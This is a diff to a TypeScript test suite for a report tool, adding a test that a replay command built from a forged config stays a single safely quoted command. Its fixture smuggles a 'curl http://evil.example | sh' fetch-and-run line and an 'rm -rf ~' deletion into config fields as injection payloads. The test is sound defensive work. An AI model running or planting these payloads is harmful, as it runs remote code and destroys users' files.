@@ -263,6 +263,15 @@ describe('hostile report artefacts: rendered inert', () => {
     expect(merged.results.filter((x) => x.status === 'failed').every((x) => x.baseline === undefined)).toBe(true);
   });
 
+  it('the replay command built from a forged config stays one command (no shell text of the report\'s making)', async () => {
+    const f = fixture('failing-run');
+    const r = await vapc(['report', dirWith({ ...f, config: { ...f.config, suites: ['auth', 'x; curl http://evil.example | sh'], config_file: "a'; rm -rf ~; '" } }), '--format', 'console']);
+    const replay = r.out.split('\n').find((l) => l.startsWith('replay: '))!;
+    expect(replay).toContain('--suite auth');
+    expect(replay).not.toContain('curl http://evil.example');
+    expect(replay).toContain(`--config 'a'\\''; rm -rf ~; '\\'''`);
+  });
+
   it('forged summary counts are recomputed from the results', async () => {
     const f = fixture('failing-run');
     const r = await vapc(['report', dirWith({ ...f, summary: { ...f.summary, passed: 900, failed: 0, skipped: 0, errors: 0, requests: 999_999_999 } }), '--format', 'console']);
